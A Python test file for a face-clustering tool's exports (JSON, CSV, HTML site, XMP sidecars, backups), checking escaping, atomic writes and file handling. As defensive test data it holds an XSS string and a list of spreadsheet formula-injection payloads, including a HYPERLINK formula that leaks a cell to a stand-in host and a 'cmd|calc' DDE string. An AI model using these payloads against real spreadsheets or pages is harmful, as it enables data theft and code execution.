"""export: JSON, CSV, HTML (also in a real browser) and the rules every written file follows.

Most tests run on a small library that needs no ../shared/facedata: the
astronaut portrait that ships with scikit-image (also cropped at the face's
edge, and under a file name that is not UTF-8) and insightface's t1.jpg,
scanned for real, with the groups made directly in the store. Tests about
what an export writes, not about faces, use a store filled by hand.
"""

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zlib
from pathlib import Path
from urllib.parse import unquote_to_bytes

import numpy as np
import pytest
from click.testing import CliRunner
from PIL import Image

import facecluster
import facecluster.export.html as html_module
from facecluster.cli import cli
from facecluster.records import Face, PhotoFacts
from facecluster.faces import face_thumbnail
from facecluster.store import Store
from facecluster.web import create_app
from tests.conftest import cli_ok as ok
from tests.conftest import cli_run as run
from tests.conftest import beside_a_fifo, jpeg_bytes

HOSTILE = "<script>alert(1)</script> & Co"
NOT_UTF8 = os.fsdecode(b"caf\xe9.jpg")


# ---- a store filled by hand: real files, real SQLite, no model -------------------------


def add_photo(store, path, boxes, taken="2019-07-01T10:00:00", source="exif", size=(640, 480)):
    """A real JPEG at `path` and its faces (boxes x, y, w, h) in the store; returns the face ids."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    yy, xx = np.mgrid[0 : size[1], 0 : size[0]]
    shade = zlib.crc32(bytes(path)) % 256  # each file its own content (its own sha256)
    rgb = np.stack([xx % 256, yy % 256, (xx + yy + shade) % 256], axis=-1).astype(np.uint8)
    path.write_bytes(jpeg_bytes(rgb))
    store.register_model("sface", "test", 128, "none")
    faces = [
        Face(box, (0.0,) * 10, 0.9, min(box[2], box[3]), np.ones(128, np.float32) / np.sqrt(128),
             face_thumbnail(rgb, np.array([box[0], box[1], box[0] + box[2], box[1] + box[3]])))
        for box in boxes
    ]
    facts = PhotoFacts(os.fsdecode(bytes(path)), path.stat().st_size, path.stat().st_mtime_ns,
                       hashlib.sha256(path.read_bytes()).hexdigest(), size[0], size[1], taken, source)
    with store.transaction():
        photo_id = store.save_photo(facts, faces, "sface", None)
    return [r[0] for r in store.db.execute("SELECT id FROM faces WHERE photo_id = ? ORDER BY id", [photo_id])]


def make_person(store, face_ids, name=None):
    """A group (as `group` would make) holding these faces; the name is stored as given, unchecked."""
    with store.transaction():
        person = store.create_people("sface", 1)[0]
        store.assign_faces([(person, "cluster", f) for f in face_ids])
        if name is not None:
            store.set_person(person, name=name)
    return person


# ---- a small real library, no facedata needed ------------------------------------------


@pytest.fixture(scope="module")
def small_library(tmp_path_factory, astronaut, t1_path):
    """Four real photos scanned; the astronaut's three faces are a group named HOSTILE, three of t1's a group."""
    root = tmp_path_factory.mktemp("small")
    photos = root / "photos"
    (photos / "trip").mkdir(parents=True)
    (photos / "astronaut.jpg").write_bytes(jpeg_bytes(astronaut))
    (photos / "edge.jpg").write_bytes(jpeg_bytes(np.ascontiguousarray(astronaut[:, 172:])))  # face at the left edge
    (photos / NOT_UTF8).write_bytes(jpeg_bytes(np.ascontiguousarray(astronaut[:, ::-1])))
    (photos / "trip" / "group.jpg").write_bytes(t1_path.read_bytes())
    db = root / "faces.db"
    ok(db, "scan", "-q", str(photos))
    store = Store(db)
    faces = {f.face_id: f for f in store.export_faces()}
    astronauts = [i for i, f in faces.items() if "group.jpg" not in f.path]
    others = [i for i, f in faces.items() if "group.jpg" in f.path]
    assert len(astronauts) == 3 and len(others) == 6
    named = make_person(store, astronauts)
    unnamed = make_person(store, others[:3])
    store.close()
    ok(db, "name", str(named), HOSTILE)
    return photos, db, named, unnamed


@pytest.fixture(scope="module")
def made_library(tmp_path_factory):
    """The same shape as small_library, filled by hand (no model): for tests about files, not faces."""
    root = tmp_path_factory.mktemp("made")
    db = root / "faces.db"
    store = Store(db)
    photos = root / "photos"
    named = make_person(store, [add_photo(store, photos / name, [(100, 100, 120, 120)])[0]
                                for name in ("a.jpg", "b.jpg", NOT_UTF8)])
    unnamed = make_person(store, add_photo(store, photos / "trip" / "group.jpg", [(10, 10, 60, 60), (200, 10, 60, 60),
                                                                                   (400, 10, 60, 60)]))
    add_photo(store, photos / "alone.jpg", [(10, 10, 60, 60)] * 3)
    store.close()
    ok(db, "name", str(named), HOSTILE)
    return photos, db, named, unnamed


def json_of(db):
    return json.loads(ok(db, "export", "--json", "-").stdout)


def test_json_lists_people_and_faces(small_library):
    photos, db, named, unnamed = small_library
    result = ok(db, "export", "--json", "-")
    data = json.loads(result.stdout)
    assert data["people"][0]["name"] == HOSTILE and data["people"][0]["id"] == named  # named people first
    faces = data["people"][0]["faces"]
    assert len(faces) == 3 and all(len(f["bbox"]) == 4 and f["photo"].endswith(".jpg") for f in faces)
    assert set(faces[0]) == {"face_id", "photo", "bbox", "score", "taken", "taken_source"}
    assert [p["id"] for p in data["people"]] == [named, unnamed]
    assert len(data["unclustered"]) == 3


def test_csv_one_row_per_face(small_library, tmp_path):
    photos, db, named, unnamed = small_library
    out = tmp_path / "faces.csv"
    result = ok(db, "export", "--csv", str(out))
    assert result.stdout == "" and "Wrote 9 faces" in result.stderr  # the summary is not the result
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 9
    assert {r["name"] for r in rows if r["name"]} == {HOSTILE}
    assert sum(r["person_id"] == "" for r in rows) == 3


def test_html_site_escapes_paginates_and_reuses_thumbnails(small_library, tmp_path, monkeypatch):
    photos, db, named, unnamed = small_library
    site = tmp_path / "site"
    first = ok(db, "export", "--html", str(site))
    assert "thumbnails written" in first.stderr and first.stdout == ""
    index = (site / "index.html").read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; Co" in index and "<script>alert" not in index
    assert index.count('class="card') == 2
    assert "http://" not in index and "https://" not in index
    unnamed_page = (site / f"person-{unnamed}.html").read_text()
    assert f"facecluster --db {db} name {unnamed}" in unnamed_page and "Copy</button>" in unnamed_page
    page = (site / f"person-{named}.html").read_text()
    links = re.findall(r'<a class="face" href="([^"]+)"', page)
    assert len(links) == 3 and all(not link.startswith("/") for link in links)  # relative links to the originals
    assert all(os.path.isfile(os.fsdecode(site / os.fsdecode(unquote_to_bytes(link)))) for link in links)
    again = ok(db, "export", "--html", str(site))
    assert "(0 thumbnails written" in again.stderr
    monkeypatch.setattr(html_module, "CARDS_PER_PAGE", 1)
    monkeypatch.setattr(html_module, "FACES_PER_PAGE", 2)
    ok(db, "export", "--html", str(tmp_path / "paged"))
    assert (tmp_path / "paged" / "index-2.html").exists() and (tmp_path / "paged" / f"person-{named}-2.html").exists()
    assert 'href="index-2.html"' in (tmp_path / "paged" / "index.html").read_text()


def test_export_needs_a_format(made_library):
    photos, db, named, unnamed = made_library
    result = CliRunner().invoke(cli, ["--db", str(db), "export"])
    assert result.exit_code == 2 and "choose at least one of" in result.output


def test_unwritable_output_is_one_line(made_library, tmp_path):
    photos, db, named, unnamed = made_library
    (tmp_path / "file").write_text("x")
    result = run(db, "export", "--json", str(tmp_path / "file" / "out.json"))
    assert result.exit_code == 2 and "not a folder" in result.output
    result = run(db, "export", "--html", str(tmp_path / "nope" / "site"), "--csv", str(tmp_path / "nope" / "a.csv"))
    assert result.exit_code == 2 and "folder not found" in result.output and not (tmp_path / "nope").exists()
    result = run(db, "export", "--json", str(tmp_path / ("x" * 300 + ".json")))  # past the file system's limit
    assert result.exit_code == 1 and "cannot write" in result.output and "File name too long" in result.output


# ---- the user's files: never replaced without --force, never half written -----------------


def test_existing_files_are_replaced_only_with_force_in_every_command(made_library, tmp_path):
    photos, db, named, unnamed = made_library
    for command in (["export", "--json"], ["export", "--csv"], ["names", "--export"], ["backup"]):
        target = tmp_path / f"{command[-1].strip('-')}.out"
        target.write_text("the user's own file\n")
        refused = run(db, *command, str(target))
        assert refused.exit_code == 1, (command, refused.output)
        assert "exists already" in refused.output and "--force" in refused.output
        assert target.read_text() == "the user's own file\n"
        done = run(db, *command, str(target), "--force")
        assert done.exit_code == 0, (command, done.output)
        assert done.stdout == ""  # the file is the result; the summary goes to stderr
        assert target.read_text(errors="replace") != "the user's own file\n"
        assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".fc-")] == []


def test_export_checks_every_file_before_writing_any(made_library, tmp_path):
    photos, db, named, unnamed = made_library
    (tmp_path / "faces.csv").write_text("mine\n")
    result = run(db, "export", "--json", str(tmp_path / "people.json"), "--csv", str(tmp_path / "faces.csv"))
    assert result.exit_code == 1 and not (tmp_path / "people.json").exists()


FULL = """
import resource, signal, sys
from facecluster.cli import main
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG, as on a full disk
resource.setrlimit(resource.RLIMIT_FSIZE, (BYTES, BYTES))
sys.argv = ["facecluster"] + sys.argv[1:]
main()
"""


@pytest.mark.parametrize("command", [["names", "--export"], ["export", "--json"], ["export", "--csv"]])
def test_a_full_disk_never_leaves_half_a_file(tmp_path, command):
    db = tmp_path / "faces.db"
    store = Store(db)
    for i in range(30):
        make_person(store, add_photo(store, tmp_path / "p" / f"{i:02d}.jpg", [(10, 10, 50, 50)] * 40, size=(64, 64)),
                    name=f"Person {i}")
    store.close()
    target = tmp_path / "out.file"
    ok(db, *command, str(target))
    good = target.read_bytes()
    script = FULL.replace("BYTES", str(len(good) // 2))
    code = str(Path(facecluster.__file__).resolve().parent.parent)  # the facecluster under test
    result = subprocess.run([sys.executable, "-c", script, "--db", str(db), *command, str(target), "--force"],
                            capture_output=True, text=True, cwd=tmp_path, timeout=120,
                            env={**os.environ, "PYTHONPATH": code})
    assert result.returncode == 1 and "cannot write" in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert target.read_bytes() == good  # the previous file, whole
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".fc-")] == []


def test_backup_is_atomic_and_whole(made_library, tmp_path):
    photos, db, named, unnamed = made_library
    target = tmp_path / "copy.db"
    ok(db, "backup", str(target))
    assert json_of(target)["people"][0]["name"] == HOSTILE
    assert run(db, "backup", str(tmp_path / "nowhere" / "x.db")).exit_code == 2  # a missing folder is a usage error


# ---- HTML: the folder is the user's ------------------------------------------------------


def test_html_refuses_a_folder_holding_other_files(made_library, tmp_path):
    photos, db, named, unnamed = made_library
    folder = tmp_path / "mine"
    folder.mkdir()
    own = {"index.html": "my index", "style.css": "my style", "app.js": "my script", f"person-{named}.html": "my page"}
    for name, text in own.items():
        (folder / name).write_text(text)
    refused = run(db, "export", "--html", str(folder))
    assert refused.exit_code == 1 and "not empty" in refused.output and "--force" in refused.output
    assert {p.name: p.read_text() for p in folder.iterdir()} == own
    (tmp_path / "empty").mkdir()
    ok(db, "export", "--html", str(tmp_path / "empty"))
    (tmp_path / "empty" / "notes.txt").write_text("mine")
    ok(db, "export", "--html", str(tmp_path / "empty"))  # our own folder (marker file): written again
    assert (tmp_path / "empty" / "notes.txt").read_text() == "mine"  # a file we did not write stays
    forced = ok(db, "export", "--html", str(folder), "--force")
    assert "Wrote" in forced.stderr and (folder / "index.html").read_text() != "my index"
    (tmp_path / "a-file").write_text("x")
    assert run(db, "export", "--html", str(tmp_path / "a-file")).exit_code == 1


def test_html_rewrites_a_cut_or_empty_thumbnail(made_library, tmp_path):
    photos, db, named, unnamed = made_library
    site = tmp_path / "site"
    ok(db, "export", "--html", str(site))
    thumbs = sorted((site / "thumbs").glob("*.jpg"))
    whole = {p: p.read_bytes() for p in thumbs}
    thumbs[0].write_bytes(b"")  # what a full disk left behind before writes were atomic
    thumbs[1].write_bytes(whole[thumbs[1]][:100])
    again = ok(db, "export", "--html", str(site))
    assert f"(2 thumbnails written, {len(thumbs) - 2} reused" in again.stderr
    assert {p: p.read_bytes() for p in thumbs} == whole


def test_html_shows_the_database_as_it_is_after_merges_and_removals(tmp_path):
    db = tmp_path / "faces.db"
    store = Store(db)
    ann = [add_photo(store, tmp_path / "p" / f"ann{i}.jpg", [(100 + i, 100, 120, 120)])[0] for i in range(4)]
    bob = [add_photo(store, tmp_path / "p" / f"bob{i}.jpg", [(300, 200 + i, 150, 150)])[0] for i in range(3)]
    make_person(store, ann, "Ann")
    bob_id = make_person(store, bob)
    store.close()
    site = tmp_path / "site"
    ok(db, "export", "--html", str(site))
    assert (site / f"person-{bob_id}.html").exists()
    ok(db, "name", str(bob_id), "Ann")  # the merge: Bob's faces are Ann's now
    ok(db, "remove", str(ann[0]))
    result = ok(db, "export", "--html", str(site))
    assert not (site / f"person-{bob_id}.html").exists()  # the merged group's page is gone, not stale
    assert "old files removed" in result.stderr
    index = (site / "index.html").read_text()
    assert index.count('class="card') == 1
    card_face = int(re.search(r'<img src="thumbs/(\d+)-', index).group(1))
    assert card_face in set(ann[1:]) | set(bob)  # one of Ann's faces now; not the removed one
    listed = set(json.loads((site / ".facecluster-site").read_text())["files"])
    on_disk = {str(p.relative_to(site)) for p in site.rglob("*") if p.is_file()} - {".facecluster-site"}
    assert on_disk == listed
    thumbs = {int(p.name.split("-")[0]) for p in (site / "thumbs").glob("*.jpg")}
    assert ann[0] in thumbs  # unclustered now, still shown on the unclustered page
    assert all(f"thumbs/{t}-" in "".join(p.read_text() for p in site.glob("*.html")) for t in thumbs)


# ---- HTML: details ---------------------------------------------------------------------


def test_html_dates_plurals_and_the_name_command(tmp_path):
    db = tmp_path / "faces.db"
    store = Store(db)
    one = add_photo(store, tmp_path / "p" / "one.jpg", [(100, 100, 120, 120)], taken="2004-05-07T10:00:00")
    two = add_photo(store, tmp_path / "p" / "two.jpg", [(100, 100, 120, 120)], taken="2026-11-23T09:00:00")
    copied = add_photo(store, tmp_path / "p" / "copied.jpg", [(100, 100, 120, 120)], taken="2025-01-02T03:04:05",
                       source="mtime")
    solo = make_person(store, one, "Solo")
    group = make_person(store, two + copied)
    store.close()
    site = tmp_path / "site"
    ok(db, "export", "--html", str(site))
    index = (site / "index.html").read_text()
    assert "1 face · 1 photo<" in index and "2 faces · 2 photos" in index
    assert "1 faces" not in index and "1 photos" not in index
    assert "1 unnamed group," in index and "0 unclustered faces" in index
    # Each date stays on one line: the card breaks only between the two.
    group_page = (site / f"person-{group}.html").read_text()
    assert '<span class="date">2026-11-23</span>' in group_page
    assert ".date { white-space: nowrap; }" in (site / "style.css").read_text()
    # A file's own date is not shown as the date taken, and not counted in the range.
    assert "2025-01-02" not in group_page.split('<div class="grid">')[0]
    assert "file date 2025-01-02" in group_page
    assert '"..."' not in group_page and "data-command=" in group_page
    solo_page = (site / f"person-{solo}.html").read_text()
    assert "1 face in 1 photo" in solo_page and 'class="copy"' not in solo_page


def test_html_pads_a_face_at_the_edge_with_neutral_grey(small_library, tmp_path):
    photos, db, named, unnamed = small_library
    site = tmp_path / "site"
    ok(db, "export", "--html", str(site))
    edge = next(f for f in json_of(db)["people"][0]["faces"] if f["photo"].endswith("edge.jpg"))
    assert edge["bbox"][0] < 10  # the face touches the left edge: its stored crop is cut short there
    store = Store(db)
    stored = np.asarray(Image.open(io.BytesIO(store.thumb(edge["face_id"]))).convert("RGB")).astype(int)
    store.close()
    written = next((site / "thumbs").glob(f"{edge['face_id']}-*.jpg"))
    square = np.asarray(Image.open(written).convert("RGB")).astype(int)
    assert square.shape[0] == square.shape[1] and stored.shape[1] < stored.shape[0]
    pad = square.shape[1] - stored.shape[1]
    # The padding is on the left (the cut side), the frame's neutral grey (#eee): not the crop's edge pixels
    # repeated (the astronaut's dark suit smeared into streaks), and the crop itself is kept beside it.
    band = square[:, : pad - 8]  # (JPEG's 8 px blocks ring a little near the crop)
    assert np.abs(band - 238).max() <= 8 and np.abs(band.mean(axis=(0, 1)) - 238).max() < 2  # grey, nothing of the photo
    assert np.abs(stored[:, 0].mean(axis=0) - 238).max() > 40  # (the photo's own edge is far from that grey)
    assert np.abs(square[:, pad + 2 :] - stored[:, 2:]).mean() < 8
    # The review page serves the same square picture for that face.
    client = create_app(db, token="t").test_client()
    assert client.get("/?token=t").status_code == 303  # the key, kept in a cookie from here on
    served = client.get(f"/thumb/{edge['face_id']}")
    assert served.status_code == 200 and served.data == written.read_bytes()


def test_non_utf8_file_names_in_every_export(small_library, tmp_path):
    photos, db, named, unnamed = small_library
    stdout = CliRunner().invoke(cli, ["--db", str(db), "export", "--json", "-"]).stdout_bytes
    data = json.loads(stdout.decode("utf-8"))  # valid UTF-8
    escaped = [f["photo"] for f in data["people"][0]["faces"] if "caf" in f["photo"]]
    assert escaped and escaped[0].endswith("caf\\xe9.jpg")
    ok(db, "export", "--json", str(tmp_path / "a.json"), "--csv", str(tmp_path / "a.csv"), "--html", str(tmp_path / "site"))
    assert "caf\\\\xe9.jpg" in (tmp_path / "a.json").read_bytes().decode("utf-8")  # JSON doubles the backslash
    assert "caf\\xe9.jpg" in (tmp_path / "a.csv").read_bytes().decode("utf-8")
    page = (tmp_path / "site" / f"person-{named}.html").read_bytes().decode("utf-8")
    link = next(link for link in re.findall(r'href="([^"]+)"', page) if "caf" in link)
    assert link.endswith("caf%E9.jpg")  # the file's own bytes, percent-encoded: the browser opens it
    assert os.path.isfile(os.fsdecode(bytes(tmp_path / "site") + b"/" + unquote_to_bytes(link)))
    names = json.loads(ok(db, "names", "--export", "-").stdout)
    assert any(f["path"].endswith("caf\\xe9.jpg") for p in names["people"] for f in p["faces"])


HOSTILE_CELLS = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tTab", "\rCR"]


def test_csv_cells_cannot_run_as_formulas(tmp_path):
    db = tmp_path / "faces.db"
    store = Store(db)
    for i, name in enumerate(HOSTILE_CELLS):
        make_person(store, add_photo(store, tmp_path / "p" / f"{i}.jpg", [(10, 10, 50, 50)]), name)
    add_photo(store, tmp_path / "p" / "=cmd|calc.jpg", [(10, 10, 50, 50)])
    store.close()
    ok(db, "export", "--csv", str(tmp_path / "faces.csv"))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "faces.csv").read_bytes().decode("utf-8"), newline="")))
    cells = [value for row in rows for key, value in row.items() if key in ("name", "photo", "taken")]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(r["name"] for r in rows if r["name"]) == sorted("'" + n for n in HOSTILE_CELLS)
    assert json_of(db)["people"][0]["name"] in HOSTILE_CELLS  # JSON keeps names exactly


# ---- in a real browser ---------------------------------------------------------------


ALL_IMAGES_LOADED = """
const images = Array.from(document.images);
return images.length > 0 && images.every(img => img.complete && img.naturalWidth > 0);
"""


def test_html_in_headless_chromium(small_library, tmp_path):
    from tests.browser import chromium

    photos, db, named, unnamed = small_library
    site = tmp_path / "site"
    ok(db, "export", "--html", str(site))
    browser = chromium(tmp_path / "profile")
    try:
        from selenium.webdriver.common.by import By
        from selenium.webdriver.support.ui import WebDriverWait

        browser.get((site / "index.html").as_uri())
        cards = browser.find_elements(By.CSS_SELECTOR, "a.card")
        assert len(cards) == 2
        assert HOSTILE in [c.find_element(By.CSS_SELECTOR, ".name").text for c in cards]
        WebDriverWait(browser, 60).until(lambda b: b.execute_script(ALL_IMAGES_LOADED))
        browser.find_element(By.CSS_SELECTOR, f'a.card[href="person-{unnamed}.html"]').click()  # a relative link
        WebDriverWait(browser, 60).until(lambda b: b.current_url.endswith(f"person-{unnamed}.html"))
        assert browser.find_elements(By.CSS_SELECTOR, "a.face") and not browser.find_elements(By.TAG_NAME, "form")
        browser.execute_script("window.scrollTo(0, document.body.scrollHeight)")
        WebDriverWait(browser, 60).until(lambda b: b.execute_script(ALL_IMAGES_LOADED))
        browser.find_element(By.ID, "name").send_keys("Ann O'Neil")
        assert browser.find_element(By.ID, "cmd").text == f"facecluster --db {db} name {unnamed} 'Ann O'\"'\"'Neil'"
        browser.find_element(By.CSS_SELECTOR, "button.copy").click()
        WebDriverWait(browser, 60).until(lambda b: b.find_element(By.CSS_SELECTOR, "button.copy").text != "Copy")
        errors = [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]
        assert errors == []
        browser.find_element(By.CSS_SELECTOR, "a.face").click()  # a face opens its original photo
        WebDriverWait(browser, 60).until(lambda b: b.current_url.endswith(".jpg") and b.execute_script(ALL_IMAGES_LOADED))
        # A card's date range breaks between the dates, never inside one.
        dated = tmp_path / "dated.db"
        store = Store(dated)
        faces = [add_photo(store, tmp_path / "p" / f"{i}.jpg", [(100, 100, 120, 120)], taken=when)[0]
                 for i, when in enumerate(["2004-05-07T10:00:00", "2026-11-23T09:00:00"])]
        make_person(store, faces, "Ann")
        store.close()
        ok(dated, "export", "--html", str(tmp_path / "dated"))
        browser.get((tmp_path / "dated" / "index.html").as_uri())
        dates = browser.find_elements(By.CSS_SELECTOR, ".card .date")
        assert [d.text for d in dates] == ["2004-05-07", "2026-11-23"]
        for date in dates:
            assert browser.execute_script("return arguments[0].getClientRects().length", date) == 1
    finally:
        browser.quit()


# ---- the labelled library (../shared/facedata) ----------------------------------------------


@pytest.fixture(scope="module")
def library(facedata, tmp_path_factory):
    """A copy of celeb5 (sidecars get written beside it), scanned, grouped, one group named."""
    root = tmp_path_factory.mktemp("export")
    photos = shutil.copytree(facedata / "celeb5_opencv_course", root / "photos")
    db = root / "faces.db"
    ok(db, "scan", "-q", str(photos))
    ok(db, "group", "-q")
    ok(db, "name", str(group_of(db, "Madonna")["id"]), HOSTILE)
    return photos, db


def group_of(db, identity):
    data = json_of(db)
    return max(data["people"], key=lambda p: sum(f"/{identity}/" in f["photo"] for f in p["faces"]))


@pytest.mark.facedata
def test_real_library_groups_export_as_people(library, tmp_path):
    photos, db = library
    data = json_of(db)
    named = [p for p in data["people"] if p["name"] == HOSTILE]
    assert len(named) == 1 and data["people"][0]["name"] == HOSTILE
    faces = named[0]["faces"]
    assert len(faces) >= 15 and sum("/Madonna/" in f["photo"] for f in faces) == len(faces)
    ok(db, "export", "--html", str(tmp_path / "site"))
    assert (tmp_path / "site" / "index.html").read_text().count('class="card') == 5


# ---- XMP (exiftool reads what we write) -------------------------------------------------


def exiftool():
    path = shutil.which("exiftool")
    if path is None:
        pytest.skip("exiftool not installed (Debian package libimage-exiftool-perl)")
    return path


def exif_json(*args):
    out = subprocess.run([exiftool(), "-json", "-struct", *args], capture_output=True, text=True, check=True)
    return json.loads(out.stdout)[0]


def digests(folder):
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.rglob("*.jpg")}


def test_xmp_sidecars_read_back_by_exiftool_and_by_scan(small_library, tmp_path):
    photos = shutil.copytree(small_library[0], tmp_path / "photos")
    db = tmp_path / "faces.db"
    ok(db, "scan", "-q", str(photos))
    store = Store(db)
    faces = {f.face_id: f for f in store.export_faces()}
    astronauts = [i for i, f in faces.items() if "group.jpg" not in f.path]
    make_person(store, astronauts)
    store.close()
    person = json_of(db)["people"][0]["id"]
    ok(db, "name", str(person), HOSTILE)
    before = digests(photos)
    dry = ok(db, "export", "--xmp", "--dry-run")
    assert "would write (create)" in dry.stdout and not list(photos.rglob("*.xmp"))
    ok(db, "export", "--xmp")
    assert digests(photos) == before  # originals untouched
    face = next(f for f in json_of(db)["people"][0]["faces"] if f["photo"].endswith("astronaut.jpg"))
    tags = exif_json(face["photo"] + ".xmp")
    regions = tags["RegionInfo"]["RegionList"]
    assert [r["Name"] for r in regions] == [HOSTILE] and regions[0]["Type"] == "Face"
    width, height = tags["RegionInfo"]["AppliedToDimensions"]["W"], tags["RegionInfo"]["AppliedToDimensions"]["H"]
    x, y, w, h = face["bbox"]
    area = regions[0]["Area"]
    assert area["X"] == pytest.approx((x + w / 2) / width, abs=1e-3)
    assert area["Y"] == pytest.approx((y + h / 2) / height, abs=1e-3)
    assert area["W"] == pytest.approx(w / width, abs=1e-3)
    assert tags["RegionInfoMP"]["Regions"][0]["PersonDisplayName"] == HOSTILE
    assert HOSTILE in (tags["Subject"] if isinstance(tags["Subject"], list) else [tags["Subject"]])
    again = ok(db, "export", "--xmp")
    assert "0 sidecars changed" in again.stderr
    # A fresh database over the same photos reads the names back from the sidecars.
    fresh = tmp_path / "fresh.db"
    ok(fresh, "scan", "-q", str(photos))
    store = Store(fresh)
    labels = sorted(r[1] for r in store.xmp_labelled_faces("sface"))
    store.close()
    assert labels == [HOSTILE] * 3


@pytest.mark.facedata
def test_scan_reads_names_from_our_sidecars_and_exiftools(library, tmp_path):
    photos, db = library
    ok(db, "export", "--xmp")
    copy = shutil.copytree(photos, tmp_path / "copy")
    # One more sidecar written by exiftool alone, for a Jerry Seinfeld photo, in the Microsoft dialect.
    jerry = sorted((copy / "Jerry_Seinfeld").glob("*.jpg"))
    fresh = tmp_path / "fresh.db"
    ok(fresh, "scan", "-q", str(copy / "Jerry_Seinfeld"))
    face = json_of(fresh)["unclustered"]
    target = next(f for f in face if f["photo"] == str(jerry[0]))
    tags = exif_json(str(jerry[0]))
    width, height = tags["ImageWidth"], tags["ImageHeight"]
    x, y, w, h = target["bbox"]
    subprocess.run(
        [exiftool(), "-q", "-o", str(jerry[0]) + ".xmp",
         "-XMP-MP:RegionInfoMP={Regions=[{PersonDisplayName=Jerry,Rectangle="
         f"{x / width:.4f}|, {y / height:.4f}|, {w / width:.4f}|, {h / height:.4f}}}]}}",
         str(jerry[0])],
        check=True, capture_output=True,
    )
    assert "Jerry" in exif_json(str(jerry[0]) + ".xmp")["RegionInfoMP"]["Regions"][0]["PersonDisplayName"]
    fresh.unlink()
    ok(fresh, "scan", "-q", str(copy))
    result = ok(fresh, "group", "-q")
    people = {p["name"]: p for p in json_of(fresh)["people"] if p["name"]}
    assert HOSTILE in people and "Jerry" in people
    assert all("/Madonna/" in f["photo"] for f in people[HOSTILE]["faces"])
    assert str(jerry[0]) in [f["photo"] for f in people["Jerry"]["faces"]]
    # One face named in a sidecar is one anchor: never a majority by itself, so the other
    # Jerry faces stay a group of their own, which `suggest` offers as very likely Jerry.
    assert len(people["Jerry"]["faces"]) == 1, result.stdout
    offered = json.loads(ok(fresh, "suggest", "--for", "Jerry", "--json").stdout)["groups"]
    jerry_group = next(p for p in json_of(fresh)["people"] if not p["name"] and any("/Jerry_Seinfeld/" in f["photo"] for f in p["faces"]))
    assert offered[0]["group"] == jerry_group["id"] and offered[0]["likelihood"] == "very likely"


def test_html_marker_that_is_not_a_regular_file_does_not_hang_the_export(made_library, tmp_path):
    photos, db, named, unnamed = made_library
    site = tmp_path / "site"
    site.mkdir()
    result, blocked = beside_a_fifo(site / ".facecluster-site", lambda: run(db, "export", "--html", str(site)))
    assert not blocked  # it waited for a writer for ever before
    assert result.exit_code == 0, result.output
    assert (site / "index.html").exists()
